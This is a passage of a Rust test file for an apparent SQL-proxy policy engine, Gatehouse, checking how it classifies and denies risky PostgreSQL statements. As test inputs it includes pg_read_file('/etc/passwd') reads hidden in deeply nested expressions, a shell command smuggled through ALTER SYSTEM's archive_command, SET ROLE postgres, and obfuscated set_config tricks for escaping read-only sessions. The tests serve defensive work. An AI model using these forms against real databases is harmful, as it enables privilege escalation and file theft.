    assert_eq!(exec.operations(), vec![Delete]);
    assert!(has_access(&exec.statements[0], Delete, "orders", true));
    // An unresolved EXECUTE is denied by the rules.
    assert!(matches!(
        decide(&design_policies(), &planner(), &classified("EXECUTE del(42)")),
        Decision::Deny { .. }
    ));
    // Resolved, the delete on orders is held for approval.
    assert!(matches!(
        decide(&design_policies(), &planner(), &exec),
        Decision::RequireApproval { .. }
    ));

    // Side effects in the parameters count too.
    let exec = session
        .resolve(&classified("EXECUTE del(length(pg_read_file('x')))"))
        .map(|c| judge_calls(&c, test_catalog()));
    assert!(exec.is_ok_and(|c| c.statements[0].has(SideEffectFunction) && c.statements[0].has(Delete)));

    // EXPLAIN EXECUTE only plans; EXPLAIN ANALYZE EXECUTE and CREATE TABLE AS EXECUTE run it.
    let plan = session.resolve(&classified("EXPLAIN EXECUTE del(1)"));
    assert!(plan.is_ok_and(|c| c.operations() == vec![Explain]));
    let run = session.resolve(&classified("EXPLAIN ANALYZE EXECUTE del(1)"));
    assert!(run.is_ok_and(|c| c.operations() == vec![Delete]));
    let ctas = session.resolve(&classified("CREATE TABLE copy AS EXECUTE del(1)"));
    assert!(ctas.is_ok_and(|c| c.statements[0].has(Ddl)
        && c.statements[0].has(Delete)
        && !c.statements[0].has(Prepare)));

    // A second PREPARE of the same name does not replace the first (the
    // server refuses it and keeps the first).
    let _ = session.apply(&classified("PREPARE del AS SELECT 1"));
    let exec = session.resolve(&classified("EXECUTE del(1)"));
    assert!(exec.is_ok_and(|c| c.operations() == vec![Delete]));

    // DEALLOCATE removes; EXECUTE then fails closed.
    let _ = session.apply(&classified("DEALLOCATE del"));
    assert!(session.resolve(&classified("EXECUTE del(1)")).is_err());

    // DEALLOCATE ALL and DISCARD ALL clear.
    let _ = session.apply(&classified("PREPARE a AS SELECT 1; PREPARE b AS SELECT 2"));
    assert_eq!(session.len(), 2);
    let _ = session.apply(&classified("DEALLOCATE ALL"));
    assert!(session.is_empty());
    let _ = session.apply(&classified("PREPARE a AS SELECT 1"));
    let _ = session.apply(&classified("DISCARD ALL"));
    assert!(session.is_empty());
}

#[test]
fn prepare_and_execute_in_one_query() {
    let session = PreparedStatements::new();
    let c = session.resolve(&classified("PREPARE p AS DELETE FROM orders; EXECUTE p"));
    assert!(c.is_ok_and(|c| c.statements[1].operations == vec![Delete]));
    let c = session.resolve(&classified("PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p"));
    assert_eq!(c, Err(ClassifyError::UnknownPrepared("p".into())));
    let c = session.resolve(&classified("PREPARE p AS SELECT 1; DEALLOCATE ALL; EXECUTE p"));
    assert!(c.is_err());
    // resolve records nothing.
    assert!(session.is_empty());
}

#[test]
fn protocol_level_statements_share_the_namespace() {
    let mut session = PreparedStatements::new();
    // A named Parse of "EXECUTE inner" chains to the SQL-level statement.
    assert!(session.insert("step_one", one("UPDATE orders SET a = 1")));
    assert!(session.insert("step_two", one("EXECUTE step_one")));
    let c = session.resolve(&classified("EXECUTE step_two"));
    assert!(c.is_ok_and(|c| c.operations() == vec![Update]));
    assert!(
        !session.insert("step_one", one("SELECT 1")),
        "an existing name is kept"
    );
    assert!(session.remove("step_one"));
    assert!(session.resolve(&classified("EXECUTE step_two")).is_err());
}

#[test]
fn select_into_and_locking_are_writes() {
    let s = one("SELECT * INTO archive FROM orders");
    assert!(has_access(&s, Insert, "archive", true) && has_access(&s, Ddl, "archive", true));
    assert!(has_access(&s, Select, "orders", false));
    assert_denied("SELECT * INTO archive FROM orders");
    let s = one("CREATE TABLE archive AS SELECT * FROM orders");
    assert!(has_access(&s, Insert, "archive", true) && has_access(&s, Select, "orders", false));

    for sql in [
        "SELECT * FROM items FOR UPDATE",
        "SELECT * FROM items FOR SHARE",
        "SELECT * FROM items FOR NO KEY UPDATE SKIP LOCKED",
        "SELECT * FROM items FOR KEY SHARE NOWAIT",
        "SELECT * FROM items i FOR UPDATE OF i",
        "SELECT * FROM (SELECT * FROM items) x FOR UPDATE",
    ] {
        let s = one(sql);
        assert!(has_access(&s, Update, "items", true), "{sql}: {s:?}");
        assert_denied(sql);
    }
    // On public.orders, the update is held for approval like any other.
    assert!(matches!(
        decision("SELECT * FROM orders FOR UPDATE"),
        Decision::RequireApproval { .. }
    ));
    // A table only in WHERE is not locked.
    let s = one("SELECT * FROM orders WHERE id IN (SELECT id FROM items) FOR UPDATE");
    assert!(has_access(&s, Update, "orders", true));
    assert!(!has_access(&s, Update, "items", true));
}

#[test]
fn call_merge_truncate_grant_and_set_role() {
    let s = one("CALL app.archive_orders(30)");
    assert_eq!(s.operations, vec![Call]);
    // The procedure is the class `call`, not a function call...
    assert!(s.functions.is_empty(), "{s:?}");
    // ...and its arguments are walked like any expression.
    let s = one("CALL app.archive_orders(pg_read_file('x'))");
    assert_eq!(s.operations, vec![Call, SideEffectFunction]);
    assert_denied("CALL app.archive_orders(30)");
    let s = one(
        "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
    );
    assert!(has_access(&s, Merge, "orders", true) && has_access(&s, Select, "staging", false));
    assert_denied("MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DELETE");
    assert_denied("TRUNCATE orders");
    assert_denied("GRANT ALL ON orders TO planner");
    assert_denied("SET ROLE postgres");
    assert_denied("SET SESSION AUTHORIZATION postgres");
    assert_denied("BEGIN; SET LOCAL ROLE postgres; DELETE FROM orders; COMMIT");
}

#[test]
fn settings_that_change_how_text_is_read_are_refused() {
    for sql in [
        "SET standard_conforming_strings = off",
        "SET standard_conforming_strings TO 'off'",
        "SET standard_conforming_strings = 0",
        "SET standard_conforming_strings TO DEFAULT",
        "RESET standard_conforming_strings",
        "SET \"Standard_Conforming_Strings\" = off",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'BIG5'",
        "RESET client_encoding",
        "SELECT 1; SET client_encoding TO 'GBK'",
    ] {
        assert!(matches!(classify(sql), Err(ClassifyError::Refused(_))), "{sql}");
    }
    for sql in [
        "SET standard_conforming_strings = on",
        "SET standard_conforming_strings TO 'true'",
        "SET client_encoding = 'UTF8'",
        "SET NAMES 'utf-8'",
        "SET client_encoding TO unicode",
    ] {
        let s = one(sql);
        assert_eq!(s.operations, vec![Session], "{sql}");
        assert!(s.constant_sensitive, "{sql}");
    }
}

// ------------------------------------------------- read-only sessions

/// How `sql` may turn a read-only session read-write, by the classifier.
fn leaves(sql: &str) -> Option<&'static str> {
    classified(sql).leaves_read_only()
}

#[test]
fn every_way_to_turn_read_only_off_is_marked() {
    for sql in [
        // SET, RESET, DEFAULT, LOCAL, FROM CURRENT, any value, any case, quoted.
        "SET default_transaction_read_only = off",
        "SET default_transaction_read_only TO 'off'",
        "SET default_transaction_read_only = on",
        "SET SESSION default_transaction_read_only = false",
        "SET LOCAL default_transaction_read_only = off",
        "SET default_transaction_read_only TO DEFAULT",
        "SET default_transaction_read_only FROM CURRENT",
        "RESET default_transaction_read_only",
        "SET Default_Transaction_Read_Only = off",
        "SET \"DEFAULT_TRANSACTION_READ_ONLY\" = off",
        "SET transaction_read_only = off",
        "SET LOCAL transaction_read_only TO 0",
        "SET transaction_read_only TO DEFAULT",
        "RESET transaction_read_only",
        "SET \"Transaction_Read_Only\" = 'no'",
        // READ WRITE transaction modes.
        "BEGIN READ WRITE",
        "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE",
        "BEGIN TRANSACTION READ WRITE",
        "START TRANSACTION READ WRITE",
        "START TRANSACTION READ ONLY, READ WRITE",
        "SET TRANSACTION READ WRITE",
        "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ READ WRITE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        // set_config of either name, decoded, any case, any schema.
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT set_config('transaction_read_only', 'off', true)",
        "SELECT pg_catalog.set_config('TRANSACTION_READ_ONLY', 'off', false)",
        "SELECT set_config(E'default\\x5ftransaction_read_only', 'off', false)",
        "SELECT set_config(U&'transaction\\005fread_only', 'off', false)",
        "SELECT set_config($$default_transaction_read_only$$, 'off', false)",
        "SELECT SET_CONFIG('default_transaction_read_only', 'off', false)",
        "SELECT set_config(' transaction_read_only ', 'off', false)",
        "SELECT set_config(1, 'off', false)",
        // ... or of a name that is not a constant.
        "SELECT set_config(name, 'off', false) FROM pg_settings",
        "SELECT set_config($1, 'off', false)",
        "SELECT set_config('transaction_' || 'read_only', 'off', false)",
        "SELECT set_config('default_transaction_read_only'::text, 'off', false)",
        "SELECT set_config(lower('DEFAULT_TRANSACTION_READ_ONLY'), 'off', false)",
        "SELECT set_config(NULL, 'off', false)",
        "SELECT set_config(setting_name => 'transaction_read_only', new_value => 'off', is_local => false)",
        // Nested anywhere the walk goes, prepared, explained, with other statements.
        "SELECT id FROM orders WHERE set_config('default_transaction_read_only', 'off', false) IS NOT NULL",
        "SELECT * FROM set_config('default_transaction_read_only', 'off', false)",
        "WITH x AS (SELECT set_config('default_transaction_read_only', 'off', false)) SELECT * FROM x",
        "SELECT upper(coalesce(NULL, set_config('transaction_read_only', 'off', false)))",
        "SELECT (SELECT set_config('default_transaction_read_only', 'off', false))",
        "DECLARE c CURSOR FOR SELECT set_config('default_transaction_read_only', 'off', false)",
        "COPY (SELECT set_config('default_transaction_read_only', 'off', false)) TO STDOUT",
        "PREPARE p AS SELECT set_config('default_transaction_read_only', 'off', false)",
        "PREPARE p(text) AS SELECT set_config($1, 'off', false)",
        "EXPLAIN ANALYZE SELECT set_config('default_transaction_read_only', 'off', false)",
        "EXPLAIN SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT 1; SET default_transaction_read_only = off",
        "COMMIT; BEGIN READ WRITE",
        // The view over the settings.
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
    ] {
        assert!(leaves(sql).is_some(), "{sql} should be marked");
    }
}

#[test]
fn harmless_transaction_and_setting_statements_are_not_marked() {
    for sql in [
        "BEGIN",
        "BEGIN READ ONLY",
        "START TRANSACTION",
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
        "SET TRANSACTION READ ONLY",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
        "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED",
        "COMMIT",
        "COMMIT AND CHAIN",
        "ROLLBACK",
        "SAVEPOINT a",
        "SET search_path = public",
        "SET statement_timeout = 0",
        "SET default_transaction_isolation = 'serializable'",
        "RESET ALL",
        "DISCARD ALL",
        "SHOW default_transaction_read_only",
        "SELECT current_setting('transaction_read_only')",
        "SELECT set_config('search_path', 'public', false)",
        "SELECT set_config('application_name', 'default_transaction_read_only', false)",
        "SELECT 'set_config(''transaction_read_only'', ''off'', false)'",
        "SELECT * FROM orders",
        "UPDATE orders SET status = 'x'",
    ] {
        assert_eq!(leaves(sql), None, "{sql} should not be marked");
    }
}

/// `set_config('search_path', ...)` and `set_config('transaction_read_only',
/// ...)` share a cache key: a cached classification of the first must never
/// answer for the second.
#[test]
fn set_config_is_never_shared_through_the_cache() {
    let cache = ClassificationCache::default();
    for _ in 0..2 {
        let harmless = cache.classify("SELECT set_config('search_path', 'public', false)");
        assert!(harmless.is_ok_and(|c| c.leaves_read_only().is_none()));
        let wall = cache.classify("SELECT set_config('transaction_read_only', 'off', false)");
        assert!(wall.is_ok_and(|c| c.leaves_read_only().is_some()));
    }
    assert_eq!(cache.stats().hits, 0);
    // The SET forms name the setting with an identifier, which the key keeps.
    assert_ne!(
        cache_key("SET search_path = off"),
        cache_key("SET transaction_read_only = off")
    );
    assert_ne!(cache_key("BEGIN READ ONLY"), cache_key("BEGIN READ WRITE"));
}

/// EXECUTE takes the prepared statement's marks, however it reaches it.
#[test]
fn execute_of_a_marked_statement_is_marked() {
    let mut prepared = PreparedStatements::new();
    let prepare = classified("PREPARE p AS SELECT set_config('default_transaction_read_only', 'off', false)");
    assert!(prepared.apply(&prepare).is_ok());
    let resolved = prepared.resolve(&classified("EXECUTE p"));
    assert!(resolved.is_ok_and(|c| c.leaves_read_only().is_some()));
    let resolved = prepared.resolve(&classified("EXPLAIN ANALYZE EXECUTE p"));
    assert!(resolved.is_ok_and(|c| c.leaves_read_only().is_some()));
}

fn rule_policy(subject: &str, rules: serde_json::Value) -> CompiledPolicy {
    policy(
        &format!("{subject}-policy"),
        json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": subject}], "rules": rules}),
    )
}

#[test]
fn only_allow_and_approval_rules_on_writing_operations_let_a_caller_write() {
    let alice = caller("alice", &["team"]);
    let writes = |policies: &[CompiledPolicy]| may_write(policies, &alice);

    assert!(!writes(&[]), "no Policy");
    let reads = rule_policy(
        "alice",
        json!([{"name": "reads", "match": {"operations": ["select", "explain", "session", "transaction", "prepare", "copyTo"]}, "action": "allow"}]),
    );
    assert!(
        !writes(std::slice::from_ref(&reads)),
        "the read set writes nothing"
    );
    let denies = rule_policy(
        "alice",
        json!([{"name": "no-writes", "match": {"operations": ["insert", "delete"]}, "action": "deny"},
               {"name": "deny-all", "action": "deny"}]),
    );
    assert!(!writes(&[reads.clone(), denies]), "deny rules let no one write");

    for (what, rule) in [
        (
            "an allowed insert",
            json!({"name": "w", "match": {"operations": ["insert"]}, "action": "allow"}),
        ),
        (
            "an allowed delete on one table",
            json!({"name": "w", "match": {"operations": ["select", "delete"], "tables": ["public.orders"]}, "action": "allow"}),
        ),
        (
            "a held update",
            json!({"name": "w", "match": {"operations": ["update"]}, "action": "requireApproval", "approvers": {"groups": ["dba"], "required": 1}}),
        ),
        ("an empty match", json!({"name": "w", "action": "allow"})),
        (
            "empty operations on a table",
            json!({"name": "w", "match": {"tables": ["public.orders"]}, "action": "allow"}),
        ),
        (
            "a side-effect function",
            json!({"name": "w", "match": {"operations": ["sideEffectFunction"]}, "action": "allow"}),
        ),
        (
            "two-phase commit",
            json!({"name": "w", "match": {"operations": ["twoPhaseCommit"]}, "action": "allow"}),
        ),
        (
            "a DO block",
            json!({"name": "w", "match": {"operations": ["do"]}, "action": "allow"}),
        ),
        (
            "SET ROLE",
            json!({"name": "w", "match": {"operations": ["role"]}, "action": "allow"}),
        ),
    ] {
        let p = rule_policy("alice", json!([rule]));
        assert!(writes(&[reads.clone(), p]), "{what} lets alice write");
    }

    // Other callers' rules do not count; group subjects do.
    let bobs = rule_policy("bob", json!([{"name": "w", "action": "allow"}]));
    assert!(!writes(&[reads.clone(), bobs]));
    let team = policy(
        "team",
        json!({"connectionSelector": {}, "subjects": [{"kind": "Group", "name": "team"}],
               "rules": [{"name": "w", "match": {"operations": ["insert"]}, "action": "allow"}]}),
    );
    assert!(writes(&[reads, team.clone()]));
    let found =
        write_rule(std::slice::from_ref(&team), &alice).map(|(p, r)| (p.name.clone(), r.name.clone()));
    assert_eq!(found, Some(("team".to_owned(), "w".to_owned())));

    // A Policy that does not compile denies: its callers do not write.
    let invalid = CompiledPolicy::denying(
        "broken",
        &spec(
            json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": "alice"}],
                     "rules": [{"name": "w", "action": "allow"}]}),
        ),
        "a problem",
    );
    assert!(!writes(&[invalid]));
}

#[test]
fn the_read_only_refusal_says_why_and_what_to_do() {
    let r = read_only_refusal(&caller("alice", &[]), "a READ WRITE transaction mode");
    assert_eq!(r.sqlstate, "42501");
    assert_eq!(r.decision, "deny");
    assert!(
        r.message.contains("Gatehouse")
            && r.message
                .contains("this session is read-only because no Policy lets you write")
            && r.message.contains("a READ WRITE transaction mode"),
        "{r:?}"
    );
    assert!(
        r.hint.contains("alice")
            && r.hint.contains("reconnect")
            && r.hint.contains("default_transaction_read_only"),
        "{r:?}"
    );
}

#[test]
fn statements_that_reach_outside_the_database_are_refused() {
    assert!(matches!(
        classify("LOAD 'auto_explain'"),
        Err(ClassifyError::Refused(_))
    ));
    assert!(matches!(
        classify("ALTER SYSTEM SET archive_command = 'sh -c evil'"),
        Err(ClassifyError::Refused(_))
    ));
    assert!(matches!(
        classify("SELECT 1; LOAD 'x'"),
        Err(ClassifyError::Refused(_))
    ));
}

#[test]
fn garbage_fails_closed() {
    for sql in [
        "DROP TABEL orders",
        "SELECT FROM WHERE",
        "'unterminated",
        "SELECT $$unterminated",
        "SELECT 1; garbage here",
        "\u{0}",
        "SELECT '\u{0}'",
        "/* unterminated comment",
        "💥",
    ] {
        let r = classify(sql);
        assert!(matches!(r, Err(ClassifyError::Parse(_))), "{sql:?}: {r:?}");
        let refusal = r.err().map(|e| refusal_for_error(&e));
        assert!(refusal.is_some_and(|r| r.sqlstate == "42601"));
    }
}

// ------------------------------------------------------------ deep nesting

/// `SELECT first op 'a' op 'a' ...` with `n` terms: left-associative, so
/// `first` is the innermost node of a tree `n` levels deep.
fn chain(first: &str, op: &str, n: usize) -> String {
    format!(
        "SELECT {first}{}",
        format!(" {op} 'a'").repeat(n.saturating_sub(1))
    )
}

/// `open` `n` times, `inner`, `close` `n` times.
fn nested(open: &str, inner: &str, close: &str, n: usize) -> String {
    format!("{}{inner}{}", open.repeat(n), close.repeat(n))
}

fn too_deep(sql: &str) -> bool {
    matches!(classify(sql), Err(ClassifyError::TooDeep(_)))
}

/// The deepest statements PostgreSQL accepts (measured on PostgreSQL 15 with
/// its default max_stack_depth of 2MB), and long flat lists, classify.
#[test]
fn long_expressions_classify_up_to_what_postgresql_accepts() {
    let reads = |sql: &str| {
        let c = classified(sql);
        assert_eq!(c.operations(), vec![Select], "{}", &sql[..80.min(sql.len())]);
    };
    for n in [100, 1_000, 4_092] {
        reads(&chain("'a'", "||", n));
        reads(&chain("1", "+", n));
    }
    // PostgreSQL: 4,091 nested calls, 9,993 parentheses, 1,999 nested CASEs,
    // 1,663 nested FROM sub-selects, 7,273 UNIONs.
    reads(&format!("SELECT {}", nested("abs(", "1", ")", 4_091)));
    reads(&format!("SELECT {}", nested("(", "1", ")", 9_993)));
    reads(&format!(
        "SELECT {}",
        nested("CASE WHEN a THEN ", "1", " END", 1_999)
    ));
    reads(&format!(
        "SELECT * FROM {}",
        nested("(SELECT * FROM ", "(SELECT 1) s", ") s", 1_663)
    ));
    reads(&format!("SELECT 1{}", " UNION SELECT 1".repeat(7_273)));
    // PostgreSQL accepts 2,111 nested scalar sub-queries and 7,703 NOTs;
    // libpg_query serialises no tree deeper than 10,000 levels, which is
    // 1,665 and 4,995 of them (see policy/stack.rs).
    reads(&format!("SELECT {}", nested("(SELECT ", "1", ")", 1_665)));
    reads(&format!("SELECT {}true", "NOT ".repeat(4_995)));
    // Flat lists are not deep at all.
    let terms = vec!["a = 1"; 20_000];
    reads(&format!("SELECT * FROM t WHERE {}", terms.join(" AND ")));
    reads(&format!("SELECT * FROM t WHERE {}", terms.join(" OR ")));
    let values: Vec<String> = (0..20_000).map(|i| i.to_string()).collect();
    reads(&format!("SELECT * FROM t WHERE id IN ({})", values.join(", ")));
    reads(&format!(
        "SELECT CASE{} END",
        " WHEN a = 1 THEN 'x'".repeat(20_000)
    ));
    // Through the cache as well.
    let cache = ClassificationCache::default();
    for _ in 0..2 {
        let c = cache.classify(&chain("'a'", "||", 4_092));
        assert!(c.is_ok_and(|c| c.operations() == vec![Select]));
    }
    assert_eq!(cache.stats().hits, 1);
}

/// The deepest trees libpg_query hands over, in the shapes whose levels
/// cost the most stack, classify on half the stack a classification gets
/// (the margin policy/stack.rs counts on, checked in this build's profile),
/// and one level deeper is refused by the parser.
#[test]
fn the_deepest_trees_classify_on_half_the_classifier_stack() {
    let shapes: [(&str, &str, &str, usize); 7] = [
        ("abs(", "1", ")", 4_995),
        ("ARRAY[", "1", "]", 4_995),
        ("ROW(", "1", ")", 4_995),
        ("greatest(", "1", ")", 4_995),
        ("(SELECT ", "1", ")", 1_665),
        ("CASE WHEN a THEN ", "1", " END", 1_999),
        ("NOT ", "true", "", 4_995),
    ];
    let mut deepest: Vec<String> = shapes
        .iter()
        .map(|(open, inner, close, n)| format!("SELECT {}", nested(open, inner, close, *n)))
        .collect();
    deepest.push(chain("'a'", "||", 4_996));
    deepest.push(format!("SELECT 1{}", " UNION SELECT 1".repeat(9_991)));
    let on_half = {
        let deepest = deepest.clone();
        std::thread::Builder::new()
            .stack_size(CLASSIFY_STACK_BYTES / 2)
            .spawn(move || {
                deepest
                    .iter()
                    .map(|sql| classify::classify_here(sql).map(|c| c.operations()))
                    .collect::<Vec<_>>()
            })
            .map(|t| t.join().ok())
    };
    let Ok(Some(on_half)) = on_half else {
        panic!("the classifying thread failed: {on_half:?}");
    };
    for (sql, outcome) in deepest.iter().zip(on_half) {
        assert!(outcome.is_ok(), "{}: {outcome:?}", &sql[..40]);
    }
    for (open, inner, close, n) in shapes {
        let deeper = format!("SELECT {}", nested(open, inner, close, n + 1));
        assert!(too_deep(&deeper), "{}", &deeper[..40]);
    }
    assert!(too_deep(&chain("'a'", "||", 4_997)));
    assert!(too_deep(&format!("SELECT 1{}", " UNION SELECT 1".repeat(9_992))));
}

/// A dangerous call, a write or a table at the bottom of a deep expression
/// is found like anywhere else.
#[test]
fn what_hides_at_the_bottom_of_a_deep_expression_is_found() {
    let hidden = [
        chain("pg_read_file('/etc/passwd')", "||", 4_092),
        chain("length(pg_read_file('x'))", "+", 4_092),
        format!(
            "SELECT {}",
            nested("abs(", "length(pg_read_file('x'))", ")", 4_000)
        ),
        format!("SELECT {}", nested("(", "pg_read_file('x')", ")", 9_900)),
        format!("SELECT {}", nested("(SELECT ", "pg_read_file('x')", ")", 1_600)),
        format!("SELECT pg_read_file('x'){}", " UNION SELECT 'a'".repeat(7_000)),
    ];
    for sql in &hidden {
        let s = one(sql);
        assert!(
            s.side_effect_functions
                .iter()
                .any(|f| f.call.name == "pg_read_file"),
            "{}: {s:?}",
            &sql[..60]
        );
        assert_denied(sql);
    }
    let write = format!(
        "SELECT * FROM {}",
        nested(
            "(SELECT * FROM ",
            "(WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d) s",
            ") s",
            1_600
        )
    );
    assert!(has_access(&one(&write), Delete, "orders", true));
    let secret = format!(
        "SELECT 1 WHERE {}",
        nested("(", "EXISTS (SELECT 1 FROM secret.keys)", ")", 9_000)
    );
    assert_eq!(reads(&one(&secret)), vec!["secret.keys"]);
}

/// Past the parser's limits, a clear error that says why, with
/// PostgreSQL's own SQLSTATE for it.
#[test]
fn nesting_beyond_the_parser_limits_is_a_clear_error() {
    for sql in [
        chain("'a'", "||", 6_000),
        format!("SELECT {}", nested("(", "1", ")", 9_994)),
        format!("SELECT {}", nested("(SELECT ", "1", ")", 1_666)),
        format!("SELECT {}true", "NOT ".repeat(4_996)),
    ] {
        let e = classify(&sql).err();
        assert!(
            matches!(&e, Some(ClassifyError::TooDeep(m)) if !m.is_empty()),
            "{}: {e:?}",
            &sql[..40]
        );
        let refusal = e.map(|e| refusal_for_error(&e));
        assert!(
            refusal
                .as_ref()
                .is_some_and(|r| r.sqlstate == "54001" && r.message.contains("nested too deeply")),
            "{refusal:?}"
        );
    }
}

/// Input nested far beyond any limit is refused and crashes nothing.
#[test]
fn pathological_nesting_fails_without_crashing() {
    for sql in [
        format!("SELECT {}", nested("(", "1", ")", 100_000)),
        chain("'a'", "||", 100_000),
        chain("1", "+", 100_000),
        format!("SELECT {}", nested("abs(", "1", ")", 100_000)),
        format!("SELECT {}", nested("(SELECT ", "1", ")", 100_000)),
        format!("SELECT {}true", "NOT ".repeat(100_000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(100_000)),
        format!("SELECT {}", nested("ARRAY[", "1", "]", 100_000)),
    ] {
        assert!(too_deep(&sql), "{}", &sql[..40]);
        assert!(ClassificationCache::default().classify(&sql).is_err());
    }
}

/// Classification takes the stack it needs whatever thread calls it: on a
/// small thread it moves to one of its own, on a thread built like the
/// proxy runtime's it stays.
#[test]
fn classification_does_not_depend_on_the_callers_stack() {
    let deep = chain("pg_read_file('x')", "||", 4_990);
    let run = |stack: usize| {
        let deep = deep.clone();
        std::thread::Builder::new()
            .name("caller".to_owned())
            .stack_size(stack)
            .spawn(move || {
                let c = classify(&deep).map(|c| judge_calls(&c, test_catalog()).operations());
                let name = stack::on_classifier_stack(|| std::thread::current().name().map(str::to_owned));
                (c, name)
            })
            .map(|t| t.join().ok())
    };
    let small = run(128 << 10);
    let runtime_sized = run(THREAD_STACK_BYTES);
    let expected = Ok(vec![Select, SideEffectFunction]);
    assert!(
        matches!(&small, Ok(Some((c, Ok(Some(name))))) if *c == expected && name == "gatehouse-classify"),
        "{small:?}"
    );
    assert!(
        matches!(&runtime_sized, Ok(Some((c, Ok(Some(name))))) if *c == expected && name == "caller"),
        "{runtime_sized:?}"
    );
}

#[test]
fn empty_queries_run_nothing_and_are_allowed() {
    for sql in ["", "   ", ";", "-- ping", "/* */ ;;"] {
        let c = classified(sql);
        assert!(c.statements.is_empty(), "{sql:?}");
        assert!(decide(&design_policies(), &planner(), &c).is_allow());
    }
}

// ------------------------------------------------------------------- rules

#[test]
fn default_deny_names_what_would_allow_it() {
    let d = decision("DELETE FROM public.items");
    let Decision::Deny { policy, rule, hint } = d else {
        panic!("should deny: {d:?}")
    };
    assert!(policy.is_empty());
    assert_eq!(rule, DEFAULT_DENY);
    assert_eq!(
        hint,
        "no rule allows delete on public.items for system:serviceaccount:agents:planner; add a Policy rule with action allow (or requireApproval) that matches it"
    );
    let r = refusal(&decision("DELETE FROM public.items"));
    assert!(r.is_some_and(|r| r.sqlstate == "42501" && r.message.contains(DEFAULT_DENY)));

    // A caller no Policy names.
    let stranger = Identity {
        username: "mallory".into(),
        groups: vec![],
    };
    let d = decide(&design_policies(), &stranger, &classified("SELECT 1"));
    assert!(
        matches!(&d, Decision::Deny { hint, .. } if hint.contains("no Policy for this connection names mallory"))
    );
}

#[test]
fn most_restrictive_action_wins() {
    // The reads rule allows select; no-ddl denies ddl: a mixed query is denied
    // and names the deny rule.
    let d = decision("SELECT 1; CREATE TABLE x (a int)");
    assert!(
        matches!(&d, Decision::Deny { policy, rule, .. } if policy == "agents-readonly" && rule == "no-ddl")
    );
    let r = refusal(&d);
    assert!(r.is_some_and(|r| {
        r.sqlstate == "42501"
            && r.message == "permission denied by Gatehouse Policy \"agents-readonly\", rule \"no-ddl\""
            && r.hint
                .contains("rule no-ddl of Policy agents-readonly denies ddl")
    }));

    // requireApproval over allow.
    let d = decision("SELECT 1; DELETE FROM public.orders WHERE id = 42");
    assert!(
        matches!(&d, Decision::RequireApproval { rule, approvers, .. } if rule == "writes-need-approval" && approvers.groups == vec!["dba".to_owned()])
    );
    assert!(refusal(&d).is_some_and(|r| r.sqlstate == "42501" && r.hint.contains("dba")));

    // deny over requireApproval, whatever the order.
    assert_denied("DELETE FROM public.orders; TRUNCATE public.orders");
    assert_denied("TRUNCATE public.orders; DELETE FROM public.orders");

    // A deny rule of a second Policy wins over an allow of the first.
    let mut policies = design_policies();
    policies.push(policy(
        "no-secrets",
        json!({"connectionSelector": {}, "subjects": [{"kind": "Group", "name": "system:serviceaccounts"}],
               "rules": [{"name": "secret-schema", "match": {"tables": ["secret.*"]}, "action": "deny"}]}),
    ));
    let d = decide(
        &policies,
        &planner(),
        &classified("SELECT * FROM public.orders JOIN secret.keys USING (id)"),
    );
    assert!(
        matches!(&d, Decision::Deny { policy, rule, .. } if policy == "no-secrets" && rule == "secret-schema")
    );
    assert!(decide(&policies, &planner(), &classified("SELECT * FROM public.orders")).is_allow());
}

/// Two-phase commit finishes transactions other sessions prepared, so a
/// rule for `transaction` (which drivers need for BEGIN and COMMIT) does not
/// let a caller commit or roll back someone else's prepared transaction.
#[test]
fn two_phase_commit_is_not_matched_by_transaction_rules() {
    let rules = |ops: serde_json::Value| {
        vec![policy(
            "txns",
            json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": "alice"}],
                   "rules": [{"name": "reads", "match": {"operations": ops}, "action": "allow"}]}),
        )]
    };
    let alice = caller("alice", &[]);
    let readers = rules(json!(["select", "transaction", "session"]));
    for sql in [
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT a",
        "START TRANSACTION READ ONLY",
    ] {
        assert!(decide(&readers, &alice, &classified(sql)).is_allow(), "{sql}");
    }
    for sql in [
        "PREPARE TRANSACTION 'x'",
        "COMMIT PREPARED 'x'",
        "ROLLBACK PREPARED 'x'",
        "BEGIN; SELECT 1; PREPARE TRANSACTION 'x'",
    ] {
        let d = decide(&readers, &alice, &classified(sql));
        assert!(
            matches!(&d, Decision::Deny { hint, .. } if hint.contains("no rule allows twoPhaseCommit")),
            "{sql}: {d:?}"
        );
    }
    let coordinator = rules(json!(["twoPhaseCommit"]));
    assert!(decide(&coordinator, &alice, &classified("COMMIT PREPARED 'x'")).is_allow());
}

#[test]
fn allow_rules_must_cover_every_access() {
    let policies = vec![policy(
        "orders-only",
        json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": "alice"}],
               "rules": [{"name": "read-orders", "match": {"operations": ["select"], "tables": ["public.orders"]}, "action": "allow"}]}),
    )];
    let alice = Identity {
        username: "alice".into(),
        groups: vec![],
    };
    let d = |sql: &str| decide(&policies, &alice, &classified(sql));
    assert!(d("SELECT * FROM public.orders").is_allow());
    // The join also reads secret.keys, which no rule allows.
    assert!(
        matches!(d("SELECT * FROM public.orders, secret.keys"), Decision::Deny { hint, .. } if hint.contains("select on secret.keys"))
    );
    // A table-less select is not covered by a rule that names tables.
    assert!(!d("SELECT 1").is_allow());
    // The writable CTE's delete is not covered by a select rule.
